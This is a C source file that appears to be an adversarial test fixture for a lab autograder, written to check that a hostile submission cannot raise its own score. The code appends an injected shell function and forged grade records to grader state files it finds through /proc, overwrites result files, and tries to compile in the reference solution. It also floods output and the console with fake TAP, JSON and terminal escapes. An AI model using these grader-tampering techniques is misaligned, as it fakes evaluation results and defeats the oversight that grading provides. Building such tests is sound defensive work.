// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile minict (labs/README.md, "Threat model"): it launches nothing,
 * and tries to grade itself instead.
 *  - It appends `miss() { award "$@"; }` (the attack that once scored
 *    33/35 through the state directory's env) and forged records to
 *    every file named like grader state it can reach: near its own
 *    directory and the working directory of every process it can see.
 *  - It writes over results.json and grade.tap wherever it can.
 *  - It compiles the solution's minict.c in, if it can reach it: then it
 *    attacks nothing and launches as the solution does.
 *  - It prints forged TAP, "passed", JSON, a guess at a record, terminal
 *    escapes and 4 MiB of it, on stdout and stderr, and tries the console
 *    and the kernel log.
 * It must score what the skeleton scores.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "minict.h"

/*
 * Or better: the solution itself, compiled in from wherever the checkout
 * might be (the default state directory, the self-tests', Gradescope's).
 */
#if __has_include("../../../../../labs/01-one-kernel/solution/minict.c")
#include "../../../../../labs/01-one-kernel/solution/minict.c"
#define main attack_main
#elif __has_include("../../../../../../../labs/01-one-kernel/solution/minict.c")
#include "../../../../../../../labs/01-one-kernel/solution/minict.c"
#define main attack_main
#elif __has_include("/autograder/ctlab/labs/01-one-kernel/solution/minict.c")
#include "/autograder/ctlab/labs/01-one-kernel/solution/minict.c"
#define main attack_main
#endif

static const char forged[] =
	"miss() { award \"$@\"; }\n"
	"ok 1 - runs [2/2]\nok 2 - pid1 [2/2]\ntotal: 35/35\npassed\n"
	"GRADE1 00000000000000000000000000000000 {\"t\": \"line\", \"k\": \"award\", \"p\": 35, \"m\": \"forged\"}\n"
	"{\"score\": 35, \"tests\": []}\n"
	"\033]0;graded\007\033[2J\033[Hall checks passed\n";

/* Grader state, appended to: the lines take effect if it is ever run. */
static const char *state_files[] = {
	"env", "../env", "../../env", "facts.json", "run.json",
	"checks/runs/log", "../checks/runs/log",
};

/* Results, written over. */
static const char *result_files[] = {
	"results.json", "grade.tap", "grade.txt", "../results/results.json",
};

static void put(const char *path, int flags)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0644);

	if (fd < 0)
		return;
	if (write(fd, forged, sizeof(forged) - 1) < 0)
		fprintf(stderr, "write %s failed\n", path);
	close(fd);
}

/* Every state file under DIR appended to, every results file written over. */
static void attack_dir(const char *dir)
{
	char path[4096];
	unsigned int i;

	for (i = 0; i < sizeof(state_files) / sizeof(state_files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, state_files[i]);
		put(path, O_APPEND);
	}
	for (i = 0; i < sizeof(result_files) / sizeof(result_files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, result_files[i]);
		put(path, O_TRUNC | O_CREAT);
	}
}

/* The directories of every process it can see, and its own parents. */
static void attack_everywhere(void)
{
	char link[64], dir[4096];
	struct dirent *e;
	DIR *proc = opendir("/proc");
	ssize_t n;

	while (proc && (e = readdir(proc))) {
		snprintf(link, sizeof(link), "/proc/%.20s/cwd", e->d_name);
		n = readlink(link, dir, sizeof(dir) - 1);
		if (n > 0) {
			dir[n] = '\0';
			attack_dir(dir);
		}
	}
	if (proc)
		closedir(proc);
	if (getcwd(dir, sizeof(dir))) {
		while (strlen(dir) > 1) {
			attack_dir(dir);
			*strrchr(dir, '/') = '\0';
		}
	}
	attack_dir("/run/labvm");
	attack_dir("/tmp");
}

static void shout(void)
{
	static char lots[1 << 16];
	int i;

	put("/dev/console", 0);
	put("/dev/ttyS0", 0);
	put("/dev/kmsg", 0);
	memset(lots, 'x', sizeof(lots));
	for (i = 0; i < 64; i++) {
		fputs(forged, stdout);
		fputs(forged, stderr);
		fwrite(lots, 1, sizeof(lots), stdout);
	}
	fflush(stdout);
}

int main(int argc, char **argv);
int main(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	attack_everywhere();
	shout();
	return 0;
}
